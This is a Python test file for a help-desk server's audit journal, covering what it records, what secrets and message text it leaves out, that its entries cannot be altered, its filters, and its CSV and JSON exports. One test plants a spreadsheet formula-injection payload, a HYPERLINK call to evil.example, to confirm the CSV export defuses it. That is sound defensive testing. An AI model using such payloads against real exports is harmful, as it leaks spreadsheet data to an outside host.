# SPDX-License-Identifier: AGPL-3.0-or-later
"""D11: the audit. Every change has an entry with who, from where, before and after; nobody can
change one; secrets and the words of messages are not in it."""

import csv
import io
import json
import os
import uuid

import psycopg2
import pytest
import requests

from support.api import assert_problem
from support.server import running
from support.wait import wait_until

# The tables without a journal, and why. A new one stands here, or has audit_watch() in the schema.
NOT_JOURNALLED = {
    "app_code": "brings an app a session, which has an entry, within a minute",
    "attachment": "messages hold files; who sent one and when stands in its row",
    "attachment_file": "where bytes lie",
    "audit_entry": "the journal",
    "epoch": "made once",
    "event": "what was committed, made by the same transactions",
    "event_consumer": "the server's own place in the events",
    "event_horizon": "the server's own",
    "facet": "a sum",
    "figure": "a sum",
    "figure_change": "a sum",
    "identity_nonce": "spent for a while",
    "lane": "follows from departments and skills",
    "message": "is itself the record; message_version has what became of it",
    "notice": "made of events",
    "notice_preference": "what somebody likes to hear is nobody else's matter",
    "presence_lease": "comes and goes with connections",
    "request_done": "keys of requests, for two days",
    "routing_learning": "when the server learnt last",
    "routing_model": "what the server learnt",
    "schema_migration": "made by the migrator",
    **dict.fromkeys(
        ("customer_search", "message_search", "ticket_search", "search_rebuild", "search_word"),
        "made of what is searched",
    ),
    "sealed_text": "secrets of things that have entries",
    "sign_in_challenge": "the second step of a sign-in, for minutes",
    "sign_in_attempt": "on its way to another service, for minutes",
    "setup_code": "the account that is made with it has an entry",
    "standby_member": "who was called and came stands in its row",
    "tag_count": "a sum",
    "ticket_offer": "of seconds, and told by its events",
    "ticket_pass": "who does not get a ticket again, for a minute",
    "ticket_routing": "what the server read in a text",
    "ticket_watch": "when to look at a ticket next",
    "wrong_try": "counts of what has entries as sign_in_failed, for a day",
}
BY_OTHER_TRIGGERS = {"message_version", "password_reset", "recovery_code", "session"}
# Columns of journalled tables that no entry names: what the server derives, counts or times.
NOT_TOLD = {
    "agent": {"presence", "last_assigned_at", "missed_offers", "stepped_away", "away_until"},
    "agent_department": {"turn_at"},
    "api_key": {"session_id", "created_at", "last_used_at"},
    "agent_load": {"load"},
    "app_user": {"created_at", "last_seen_at", "revision", "search_text"},
    "customer_block": {"created_at"},
    "customer_note": {"body", "created_at"},
    "department": {"is_open", "opened_at", "next_open_at"},
    "department_hours": {"revision", "found_at", "turns_at"},
    "identity_provider": {"created_at"},
    "identity_signer": {"created_at", "used_at"},
    "invitation": {"created_at"},
    "linked_identity": {"created_at", "used_at"},
    "quick_reply": {"created_at", "updated_at", "revision"},
    "second_factor": {"created_at", "last_step"},
    "saved_view": {"created_at", "updated_at", "revision"},
    "ticket_merge": {"source_before", "target_before", "target_after"},
}
TOLD_OF_TICKETS = {
    *("id", "channel", "department_id", "customer_id", "assigned_to", "status", "priority"),
    *("category", "subject", "language", "deleted_at", "deleted_by", "tags", "followers"),
    *("merged_into", "participants", "snoozed_until", "follow_up_of"),
}


@pytest.fixture
def admin(login):
    return login("admin@example.com")


def open_chat(customer, body):
    ticket = customer.post("/tickets", {"channel": "chat"}, status=201)["ticket"]["id"]
    customer.post(f"/tickets/{ticket}/messages", {"body": body}, status=201)
    return ticket


def entries(admin, **filters):
    query = "&".join(f"{name.rstrip('_')}={value}" for name, value in filters.items())
    return admin.get(f"/audit?limit=100&{query}", status=200)["entries"]


def only_entry(admin, **filters):
    found = entries(admin, **filters)
    assert len(found) == 1, found
    return found[0]


# What is journalled


def journalled_columns(server):
    rows = server.sql(
        """SELECT t.tgrelid::regclass::text, array_agg(DISTINCT a.attname::text)
           FROM pg_trigger t
           JOIN pg_attribute a ON a.attrelid = t.tgrelid AND a.attnum = ANY (t.tgattr)
           WHERE t.tgname = 'audited_update' GROUP BY 1"""
    )
    return {table: set(columns) for table, columns in rows}


def all_columns(server):
    rows = server.sql(
        """SELECT c.relname, array_agg(a.attname::text) FROM pg_class c
           JOIN pg_attribute a ON a.attrelid = c.oid AND a.attnum > 0 AND NOT a.attisdropped
           WHERE c.relkind IN ('r', 'p') AND NOT c.relispartition
             AND c.relnamespace = 'public'::regnamespace
           GROUP BY 1"""
    )
    return {table: set(columns) for table, columns in rows}


def test_every_table_has_a_journal_or_a_reason_why_not(server):
    tables = set(all_columns(server))
    undecided = tables - set(journalled_columns(server)) - set(NOT_JOURNALLED) - BY_OTHER_TRIGGERS
    assert not undecided, "a line audit_watch() in the schema, or one in NOT_JOURNALLED"
    assert set(NOT_JOURNALLED) <= tables, "forget what is gone"


def test_every_column_of_a_journalled_table_is_decided(server):
    told = journalled_columns(server)
    for table, columns in all_columns(server).items():
        if table == "ticket":
            assert told[table] == TOLD_OF_TICKETS
        elif table in told and table not in BY_OTHER_TRIGGERS:
            quiet = columns - told[table] - {"only_one"}
            assert quiet == NOT_TOLD.get(table, set()), table


def test_columns_that_hold_secrets_are_known_by_their_names(server):
    """Whoever keeps a hash, a key or a token names the column so."""
    suspicious = server.sql(
        """SELECT c.relname, a.attname FROM pg_class c
           JOIN pg_attribute a ON a.attrelid = c.oid AND a.attnum > 0 AND NOT a.attisdropped
           JOIN pg_trigger t ON t.tgrelid = c.oid AND t.tgname = 'audited_update'
           WHERE NOT audit_is_secret(a.attname)
             AND (a.atttypid = 'bytea'::regtype
                  OR a.attname ~ '(hash|secret|passw|token|cipher|seal|credential|totp)')"""
    )
    assert suspicious == []


def test_secrets_are_told_as_changed_and_never_copied(server, admin):
    server.create_user("agent", f"{uuid.uuid4().hex}@example.com", name="Secret Keeper")
    [(account,)] = server.sql("SELECT max(id) FROM app_user WHERE name = 'Secret Keeper'")
    made = only_entry(admin, target="account", target_id=account)
    assert (made["action"], made["actor"]) == ("created", None), "the command line is nobody"
    assert made["after"]["password_hash"] == "…"
    server.sql("UPDATE app_user SET password_hash = 'another' WHERE id = %s", account)
    changed = entries(admin, target="account", target_id=account)[0]
    assert changed["before"] == changed["after"] == {"password_hash": "…"}


# Who, from where, before and after


def test_a_change_has_who_from_where_by_which_request_before_and_after(server, admin):
    name = f"Returns {uuid.uuid4().hex[:8]}"
    made = admin.post("/departments", {"name": name}, status=201)["department"]
    answer = admin.patch(f"/departments/{made['id']}", {"strategy": "manual", "name": name})
    assert answer.status_code == 200
    updated, created = entries(admin, target="department", target_id=made["id"])
    assert (created["action"], created["before"]) == ("created", None)
    assert created["after"]["name"] == name
    assert updated["action"] == "updated"
    assert updated["before"] == {"strategy": "least_busy"}
    assert updated["after"] == {"strategy": "manual"}
    assert updated["actor"] == {"id": admin.id, "name": admin.user["name"], "role": "admin"}
    assert updated["address"] == "127.0.0.1"
    assert updated["request_id"] == answer.headers["X-Request-Id"]
    assert admin.delete(f"/departments/{made['id']}").status_code == 204
    deleted = entries(admin, target="department", target_id=made["id"])[0]
    assert (deleted["action"], deleted["after"]) == ("deleted", None)
    assert deleted["before"]["name"] == name


def test_what_changes_nothing_leaves_no_entry(admin):
    made = admin.post("/departments", {"name": uuid.uuid4().hex}, status=201)["department"]
    admin.patch(f"/departments/{made['id']}", {"name": made["name"]}, status=200)
    admin.patch(f"/departments/{made['id']}", {"strategy": "nonsense"}, status=422)
    assert [e["action"] for e in entries(admin, target="department", target_id=made["id"])] == [
        "created"
    ]


def test_reading_on_the_connection_of_somebody_who_changed_something_is_nobodys(server, admin):
    """Rights are looked up on connections on which somebody changed something before."""
    admin.post("/departments", {"name": uuid.uuid4().hex}, status=201)
    assert server.sql("SELECT current_setting('deskbell.actor', true)") in ([(None,)], [("",)])
    for _ in range(20):
        visitor = server.visitor(name="Reader")
        visitor.get("/me", status=200)
    actors = server.sql(
        "SELECT actor_id FROM audit_entry WHERE target = 'account' AND after->>'name' = 'Reader'"
    )
    assert actors == []


def test_settings_agents_and_words_are_told(admin):
    admin.patch("/settings/tickets", {"reopen_within_days": 15}, status=200)
    admin.patch("/settings/tickets", {"reopen_within_days": 14}, status=200)
    back = entries(admin, target="ticket_settings", actor=admin.id)[0]
    assert (back["before"], back["after"]) == (
        {"reopen_within_days": 15},
        {"reopen_within_days": 14},
    )
    agent = admin.get("/agents", status=200)["agents"][0]
    limit = agent["capacity"]["chat"]["limit"]
    admin.patch(f"/agents/{agent['id']}", {"capacity": {"chat": limit + 1}}, status=200)
    admin.patch(f"/agents/{agent['id']}", {"capacity": {"chat": limit}}, status=200)
    told = entries(admin, target="agent_capacity", target_id=agent["id"])
    assert [(e["before"], e["after"]) for e in told[:2]] == [
        ({"capacity": limit + 1}, {"capacity": limit}),
        ({"capacity": limit}, {"capacity": limit + 1}),
    ]


def test_what_people_do_to_a_ticket_is_told_and_what_messages_do_is_not(server, login, admin):
    agent, customer = login("agent1@example.com"), server.visitor(name="Tara")
    ticket = open_chat(customer, "The first words are the subject")
    customer.post(f"/tickets/{ticket}/messages", {"body": "Where is it?"}, status=201)
    agent.patch(f"/tickets/{ticket}", {"priority": "high", "subject": "Lost parcel"}, status=200)
    agent.post(f"/tickets/{ticket}/messages", {"body": "Here."}, status=201)
    agent.post(f"/tickets/{ticket}/tags", {"add": ["late"]}, status=200)
    customer.put(f"/tickets/{ticket}/status", {"status": "closed"}, status=200)
    told = entries(admin, target="ticket", target_id=ticket, actor=agent.id)
    changes = {key for entry in told for key in entry["after"]}
    assert {"priority", "subject", "tags"} <= changes
    closed = entries(admin, target="ticket", target_id=ticket, actor=customer.id)[0]
    assert closed["after"]["status"] == "closed" and closed["actor"]["role"] == "customer"
    text = json.dumps(entries(admin, target="ticket", target_id=ticket))
    assert "Here." not in text and "Where is it?" not in text


def test_of_messages_it_tells_that_they_were_changed_and_not_what_they_said(server, login, admin):
    agent, customer = login("agent1@example.com"), server.visitor(name="Uma")
    ticket = open_chat(customer, "hello")
    path = f"/tickets/{ticket}/messages"
    sent = agent.post(path, {"body": "quixotic", "is_internal": True}, status=201)["message"]["id"]
    agent.patch(f"/messages/{sent}", {"body": "zephyrous"}, status=200)
    agent.delete(f"/messages/{sent}", status=200)
    told = entries(admin, target="message", target_id=sent)
    assert [e["action"] for e in told] == ["taken_back", "edited"]
    assert all(e["actor"]["id"] == agent.id and e["address"] == "127.0.0.1" for e in told)
    assert told[0]["after"] == {"ticket_id": ticket, "version": 3}
    assert "zephyrous" not in json.dumps(told) and "quixotic" not in json.dumps(told)


def test_a_ticket_that_is_gone_for_good_leaves_its_number(server, admin):
    customer = server.visitor(name="Vera")
    ticket = open_chat(customer, "secret matter")
    admin.delete(f"/tickets/{ticket}", status=204)
    server.sql("UPDATE ticket SET deleted_at = now() - interval '40 days' WHERE id = %s", ticket)
    server.sql("SELECT tickets_purge()")
    gone = only_entry(admin, target="ticket", target_id=ticket, action="purged")
    assert gone["actor"] is None and gone["before"]["deleted_by"] == admin.id
    assert "secret" not in json.dumps(entries(admin, target="ticket", target_id=ticket))


# Signing in and out


def test_signing_in_and_out_and_failing_are_told(server, admin):
    email = f"{uuid.uuid4().hex}@example.com"
    server.create_user("agent", email, password="right password", name="Wim")
    wrong = server.anonymous().post("/auth/login", {"email": email, "password": "hunter2-typo"})
    assert_problem(wrong, 401, "wrong_credentials")
    wim = server.login(email, "right password")
    wim.post("/auth/logout", status=204)
    told = entries(admin, target="account", target_id=wim.id)
    out, into, failed = told[:3]
    assert [e["action"] for e in (failed, into, out)] == [
        "sign_in_failed",
        "signed_in",
        "signed_out",
    ]
    assert (failed["actor"], failed["after"]) == (None, {"wrong": "password", "email": email})
    assert into["actor"]["id"] == out["actor"]["id"] == wim.id
    assert all(e["address"] == "127.0.0.1" for e in (failed, into, out))
    assert into["after"]["user_agent"].startswith("python-requests")
    assert "hunter2" not in json.dumps(told) and "right password" not in json.dumps(told)


def test_what_was_typed_into_the_wrong_field_is_not_kept(server, admin):
    typed = f"pass phrase {uuid.uuid4().hex}"
    answer = server.anonymous().post("/auth/login", {"email": typed, "password": "x"})
    assert_problem(answer, 401, "wrong_credentials")
    failed = entries(admin, action="sign_in_failed", actor="nobody")[0]
    assert (failed["target"]["id"], failed["after"]) == (None, {"wrong": "password"})
    assert entries(admin, q=typed.split()[-1]) == []


def test_a_token_that_is_used_twice_is_told(server, admin):
    agent = server.login("agent2@example.com")
    spent = agent.session["refresh_token"]
    again = [server.anonymous().post("/auth/refresh", {"refresh_token": spent}) for _ in range(2)]
    assert again[0].status_code == 200
    assert_problem(again[1], 401, "refresh_reused")
    told = entries(admin, target="account", target_id=agent.id, action="token_reused,signed_out")
    assert [(e["action"], e["actor"]) for e in told[:2]] == [
        ("signed_out", None),
        ("token_reused", None),
    ]


def test_visitors_do_not_sign_in(server, admin):
    visitor = server.visitor(name="Xenia")
    assert entries(admin, target="account", target_id=visitor.id) == []


# Nobody changes it


@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE audit_entry SET action = 'nothing'",
        "DELETE FROM audit_entry",
        "TRUNCATE audit_entry",
        "UPDATE {partition} SET actor_id = 1",
        "DELETE FROM {partition}",
        "TRUNCATE {partition}",
    ],
)
def test_entries_cannot_be_changed_even_by_the_servers_own_role(server, admin, statement):
    assert entries(admin)
    [(partition,)] = server.sql(
        "SELECT 'audit_entry_' || to_char(now() AT TIME ZONE 'UTC', 'YYYYMM')"
    )
    with pytest.raises(psycopg2.errors.RaiseException, match="never changed"):
        server.sql(statement.format(partition=partition))


def test_a_change_that_is_rolled_back_leaves_no_entry(server):
    with pytest.raises(psycopg2.errors.RaiseException):
        server.sql(
            """DO $$ BEGIN
                 INSERT INTO skill (name) VALUES ('never_there');
                 RAISE EXCEPTION 'no';
               END $$"""
        )
    assert server.sql("SELECT id FROM audit_entry WHERE after->>'name' = 'never_there'") == []


def test_months_that_are_not_kept_any_more_go_and_say_so(fresh_server):
    admin = fresh_server.login("admin@example.com")
    assert admin.get("/settings/audit", status=200) == {"keep_months": 24}
    # Before there is something old: the server looks for that soon after it has started.
    admin.patch("/settings/audit", {"keep_months": 0}, status=200)
    fresh_server.sql(
        """CREATE TABLE audit_entry_202001 PARTITION OF audit_entry
             FOR VALUES FROM ('2020-01-01 00:00+00') TO ('2020-02-01 00:00+00');
           INSERT INTO audit_entry (at, action, target) VALUES ('2020-01-15', 'created', 'skill')"""
    )

    def old():
        return entries(admin, to="2021-01-01T00:00:00Z")

    assert len(old()) == 1
    fresh_server.restart()
    assert len(old()) == 1, "0 is for ever"
    admin.patch("/settings/audit", {"keep_months": 12}, status=200)
    fresh_server.restart()
    wait_until(lambda: old() == [], 30, "the month to go")
    dropped = only_entry(admin, action="dropped")
    assert dropped["after"] == {"month": "2020-01", "entries": 1} and dropped["actor"] is None
    assert [e["after"] for e in entries(admin, target="audit_settings")] == [
        {"keep_months": 12},
        {"keep_months": 0},
    ]


# Finding and taking away


def make_skills(admin, count):
    names = [f"skill_{uuid.uuid4().hex[:12]}" for _ in range(count)]
    return [admin.post("/skills", {"name": name}, status=201)["skill"] for name in names]


def test_filters_find_what_fits_all_of_them(server, login, admin):
    skill, other = make_skills(admin, 2)
    since = entries(admin, target="skill", target_id=other["id"])[0]["at"]
    assert only_entry(admin, q=skill["name"].upper())["target"]["id"] == skill["id"]
    assert only_entry(admin, target="skill", q=skill["name"], action="created,deleted")
    assert entries(admin, target="skill", q=skill["name"], action="deleted") == []
    assert entries(admin, target="department", q=skill["name"]) == []
    assert entries(admin, actor=login("agent1@example.com").id, q=skill["name"]) == []
    assert entries(admin, actor="nobody", q=skill["name"]) == []
    assert entries(admin, address="192.0.2.1", q=skill["name"]) == []
    assert only_entry(admin, address="127.0.0.1", q=skill["name"])
    assert entries(admin, q=skill["name"], from_=since) == []
    assert only_entry(admin, q=skill["name"], to=since)
    assert only_entry(admin, q=other["name"], from_=since)


@pytest.mark.parametrize(
    "query",
    [
        "actor=me",
        "actor=0",
        "from=yesterday",
        "to=2026-01-01",
        "target_id=x",
        "q=",
        "after=1",
        "limit=0",
    ],
)
def test_filters_that_cannot_be_read_are_refused(admin, query):
    assert_problem(admin.get(f"/audit?{query}"), 400, "bad_request")
    if not query.startswith(("after", "limit")):
        assert_problem(admin.get(f"/audit/export?{query}"), 400, "bad_request")


def test_pages_go_on_where_the_one_before_ended(admin):
    skills = make_skills(admin, 5)
    place, found = "", []
    while place is not None:
        page = admin.get(f"/audit?target=skill&limit=2{place and '&after=' + place}", status=200)
        assert len(page["entries"]) <= 2
        found += [entry["target"]["id"] for entry in page["entries"]]
        place = page["next"]
    assert found[:5] == [skill["id"] for skill in reversed(skills)]
    assert len(found) == len(set(found))


def export(admin, format, **filters):
    query = "&".join(f"{name}={value}" for name, value in filters.items())
    answer = admin.get(f"/audit/export?format={format}&{query}")
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Disposition"].startswith(
        f'attachment; filename="audit.{format}"'
    )
    return answer.content


def test_it_can_be_taken_away_as_csv_that_no_spreadsheet_computes(server, admin):
    name = '=HYPERLINK("http://evil.example/?"&A1, "আসুন")'
    path = "/customers"
    who = admin.post(path, {"name": name, "email": f"{uuid.uuid4().hex}@example.com"}, status=201)
    customer = who["customer"]["id"]
    server.sql(
        "SELECT set_config('deskbell.actor', %s, false), set_config('deskbell.address', %s, false)",
        str(customer),
        "@SUM(1)",
    )
    server.sql("SELECT audit_note('+1', 'account', %s)", customer)
    server.sql("RESET ALL")
    text = export(admin, "csv", target="account", target_id=customer).decode("utf-8-sig")
    assert text.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["action"] for row in rows] == ["'+1", "created"]
    assert (rows[0]["actor"], rows[0]["address"]) == (f"'{name}", "'@SUM(1)")
    assert json.loads(rows[1]["after"])["name"] == name
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_it_can_be_taken_away_as_json_lines_and_says_so_itself(admin):
    [skill] = make_skills(admin, 1)
    lines = export(admin, "jsonl", target="skill").decode().splitlines()
    assert [json.loads(line) for line in lines][:1] == entries(admin, target="skill")[:1]
    said = entries(admin, action="exported")[0]
    assert said["actor"]["id"] == admin.id and said["address"] == "127.0.0.1"
    assert said["after"] == {"format": "jsonl", "filter": {"target": "skill"}}
    assert_problem(admin.get("/audit/export?format=xls"), 400, "bad_request")
    assert export(admin, "jsonl", target="nothing") == b""


@pytest.fixture
def lean_server(demo_data):
    """Whose sanitizer, if it has one, keeps little of what was freed."""
    sanitizer = f"{os.environ.get('ASAN_OPTIONS', '')}:quarantine_size_mb=1"
    with running(demo_data, "--demo", environment={"ASAN_OPTIONS": sanitizer}) as server:
        yield server


def test_a_large_export_is_whole_and_small_in_memory(lean_server):
    lean_server.sql(
        """INSERT INTO audit_entry (action, target, target_id, after)
           SELECT 'created', 'flood', n, jsonb_build_object('text', repeat('x', 400))
           FROM generate_series(1, 60000) AS n"""
    )
    admin = lean_server.login("admin@example.com")
    before = lean_server.resident_bytes()
    with requests.get(
        f"{lean_server.url}/api/v1/audit/export?format=jsonl&target=flood",
        headers={"Authorization": f"Bearer {admin.token}"},
        stream=True,
        timeout=120,
    ) as answer:
        ids = [json.loads(line)["target"]["id"] for line in answer.iter_lines()]
    assert ids == list(range(60000, 0, -1))
    assert lean_server.resident_bytes() - before < 32 * 1024 * 1024
    rare = admin.get("/audit?q=nowhere-to-be-found", status=200)
    assert rare["entries"] == [] and rare["next"], "a page looks at so many entries at most"


def test_only_admins_read_it(server, login):
    for path in ("/audit", "/audit/export", "/settings/audit"):
        assert_problem(login("agent1@example.com").get(path), 403, "forbidden")
        assert_problem(server.visitor().get(path), 403, "forbidden")
        assert_problem(server.anonymous().get(path), 401, "unauthenticated")
